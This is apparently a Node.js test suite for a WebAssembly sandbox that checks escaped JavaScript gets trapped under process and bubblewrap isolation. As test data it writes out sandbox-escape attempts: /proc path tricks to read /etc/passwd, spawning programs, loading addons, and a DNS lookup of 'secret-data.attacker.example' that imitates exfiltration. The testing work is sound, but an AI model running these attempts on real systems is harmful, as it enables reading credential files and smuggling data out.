import assert from 'node:assert/strict'
import { readFile, writeFile } from 'node:fs/promises'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:net'
import { dirname, join } from 'node:path'
import { describe, it, type TestContext } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'

import { SILENT_LOGGER } from '#platform'
import { chooseIsolation, type Isolation, PROCESS_ISOLATION } from '#sandbox'

import { COMPONENT_FRAMES } from '../../../../src/sandbox/protocol/component-frames.ts'
import { INSPECT_FRAMES } from '../../../../src/sandbox/protocol/inspect-protocol.ts'
import { SandboxProcess } from '../../../../src/sandbox/process/sandbox-process.ts'
import { childrenOf } from '../../../helpers/child-processes.ts'
import { findDebianProgram } from '../../../helpers/debian-program.ts'
import { hostileComponent } from '../../../helpers/hostile-glue.ts'
import { hostileInspection } from '../../../helpers/hostile-inspection.ts'
import { listenOnLoopback } from '../../../helpers/loopback-server.ts'
import { recordingLogger } from '../../../helpers/recording-logger.ts'
import { temporaryFolder } from '../../../helpers/temporary-folder.ts'

/** What JavaScript that broke out of WebAssembly may try; each says what came of it. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'read a file of the user': `(path) => fs.readFileSync(path, 'utf8')`,
  'list the folder above its own': `(path) => fs.readdirSync(path + '/..')`,
  'write beside its own code': `() => fs.writeFileSync(new URL('more.mjs', import.meta.url), '')`,
  'write to the folder for temporary files': `() => fs.writeFileSync('/tmp/wassette-was-here', '')`,
  'read through a descriptor of the host': `() => fs.readdirSync('/proc/' + process.ppid + '/fd')`,
  'climb out of its descriptors': `() => fs.readFileSync('/proc/self/fd/../../../etc/passwd', 'utf8')`,
  'climb out of a descriptor': `() => fs.readFileSync('/proc/self/fd/0/../../etc/passwd', 'utf8')`,
  'climb out of the folder of its descriptors': `() => fs.readFileSync('/proc/self/fd/' + fs.openSync('/proc/self/fd') + '/../root/etc/passwd', 'utf8')`,
  'climb out of the folder of its code': `() => fs.readFileSync('/proc/self/fd/' + fs.openSync(import.meta.dirname) + '/../../etc/passwd', 'utf8')`,
  'take the way by its own root': `() => fs.readFileSync('/proc/self/root/etc/passwd', 'utf8')`,
  'take the way by its own folder': `() => fs.readFileSync('/proc/self/cwd/etc/passwd', 'utf8')`,
  'start a program': `async () => { const run = (await import('node:child_process')).spawnSync('/bin/true'); if (run.error) throw run.error; return run.status }`,
  'start a worker': `async () => { new (await import('node:worker_threads')).Worker('1', { eval: true }) }`,
  'open an inspector': `async () => (await import('node:inspector')).open(0)`,
  'load an addon': `(path) => process.dlopen({ exports: {} }, path)`,
  'make code from text': `() => new Function('return 1')()`,
}

/** What it may try at the network, with the port of a server on this machine. */
const SOCKETS: Readonly<Record<string, string>> = {
  connect: `async (port) => (await import('node:events')).once((await import('node:net')).connect(port, '127.0.0.1'), 'connect')`,
  fetch: `async (port) => (await fetch('http://127.0.0.1:' + port)).status`,
  send: `async (port) => {
    const socket = (await import('node:dgram')).createSocket('udp4')
    await new Promise((resolve, reject) => {
      socket.on('error', reject).send('hello', port, '127.0.0.1', (error) => (error ? reject(error) : resolve()))
    })
  }`,
  ask: `async (port) => {
    const { Resolver } = await import('node:dns/promises')
    const resolver = new Resolver({ timeout: 500, tries: 1 })
    resolver.setServers(['127.0.0.1:' + port])
    return resolver.resolve4('secret-data.attacker.example')
  }`,
}

async function isolations(): Promise<readonly Isolation[]> {
  const program = await findDebianProgram({ name: 'bwrap', package: 'bubblewrap' })
  const found = await chooseIsolation({ mode: 'os', platform: 'linux', path: dirname(program) })
  return [PROCESS_ISOLATION, found.isolation]
}

for (const isolation of await isolations()) {
  describe(`a sandbox process under ${isolation.name}`, () => {
    it('can do nothing but compute', async (t) => {
      const folder = await temporaryFolder(t)
      const secret = join(folder, 'secret')
      await writeFile(secret, 'a secret')
      const attempts = Object.entries(ATTEMPTS)
      const functions = Object.fromEntries(attempts.map(([, code], index) => [`attempt${index}`, code]))
      const component = await hostileComponent(t, functions, { isolation })
      for (const [index, [attempt]] of attempts.entries()) {
        const outcome = await component.call(`attempt${index}`, [secret])
        assert.equal(outcome.kind, 'trapped', `It could ${attempt}: ${JSON.stringify(outcome)}`)
      }
    })

    // Node before 25 has no permission for the network: there only a wall keeps code that broke out from it.
    const forbidsNetwork = isolation.name !== 'process' || Number.parseInt(process.versions.node, 10) >= 25
    if (forbidsNetwork)
      it('reaches no address, not even of this machine', async (t) => {
        const server = createServer((socket) => socket.end('hello'))
        const port = Number((await listenOnLoopback(t, server)).split(':')[1])
        const receiver = createSocket('udp4').bind(port, '127.0.0.1')
        t.after(() => receiver.close())
        const first = once(receiver, 'message')
        const component = await hostileComponent(t, SOCKETS, { isolation })
        for (const attempt of Object.keys(SOCKETS)) {
          const outcome = await component.call(attempt, [port])
          // Nobody says of a datagram that it did not arrive: behind the wall it goes to a loopback of its own.
          if (attempt === 'send') continue
          assert.equal(outcome.kind, 'trapped', `It could ${attempt}: ${JSON.stringify(outcome)}`)
        }
        receiver.send('ours', port, '127.0.0.1')
        assert.equal(String((await first)[0]), 'ours')
      })

    it('is gone when it is killed, however early', async () => {
      const access = { readable: [], writable: [], memoryBytes: 1e9 }
      const launch = { entry: 'component-main', frames: COMPONENT_FRAMES, ...access } as const
      await Promise.all(
        [0, 1, 2, 4, 8, 16, 32, 64].map(async (milliseconds) => {
          const started = new SandboxProcess({ ...launch, isolation, logger: SILENT_LOGGER }, () => {})
          await sleep(milliseconds)
          started.kill()
          // Resolves when nobody holds our pipes any more.
          assert.equal((await started.ended).how, 'SIGKILL')
        }),
      )
    })

    it('has no environment, no arguments of ours, and no folder of the user', async (t) => {
      const component = await hostileComponent(
        t,
        { env: '() => ({ ...process.env })', cwd: '() => process.cwd()', argv: '() => process.argv.length' },
        { isolation },
      )
      const env = await component.call('env')
      assert.ok(env.kind === 'returned')
      assert.deepEqual(
        Object.keys(Object(env.value)).filter((name) => name !== 'PWD'),
        [],
      )
      assert.deepEqual(await component.call('cwd'), { kind: 'returned', value: '/' })
      assert.deepEqual(await component.call('argv'), { kind: 'returned', value: 2 })
    })
  })
}

/** Starts a process that runs an attack, and ends when it is killed; resolves to what was logged. */
async function logOf(t: TestContext, attack: string, onMessage: () => void) {
  const logger = recordingLogger()
  const access = { readable: [], writable: [], memoryBytes: 1e9 }
  const isolation = await hostileInspection(t, `${attack}; await until(() => false)`)
  const launch = { entry: 'inspect-main', frames: INSPECT_FRAMES, ...access, isolation, logger } as const
  const process = new SandboxProcess(launch, onMessage)
  process.send({ kind: 'component', size: 0 })
  const { how } = await process.ended
  assert.equal(how, 'SIGKILL')
  return logger.lines
}

describe('a sandbox process', () => {
  it('is killed for a mistake of ours in what it said, which is logged', async (t) => {
    const mistake = new TypeError('ours')
    const lines = await logOf(t, `await say({ kind: 'made' })`, () => {
      throw mistake
    })
    assert.deepEqual(
      lines.map(({ level, fields }) => [level, fields['err']]),
      [['error', mistake]],
    )
  })

  it('is killed for bytes that are no message, which is no mistake of ours', async (t) => {
    const lines = await logOf(t, `socket.write(Buffer.alloc(100, 'x'))`, () => {})
    assert.deepEqual(lines, [])
  })

  it('is started with an empty environment, as the operating system sees it', async (t) => {
    const component = await hostileComponent(t, {})
    await component.call('pass')
    const [child] = await childrenOf(process.pid)
    assert.ok(child !== undefined)
    assert.equal(await readFile(`/proc/${child}/environ`, 'utf8'), '')
    const flags = (await readFile(`/proc/${child}/cmdline`, 'utf8')).split('\0')
    assert.ok(flags.includes('--permission'))
    assert.deepEqual(
      flags.filter((flag) => /^--allow-(?!fs-read=)/.test(flag)),
      [],
    )
  })
})
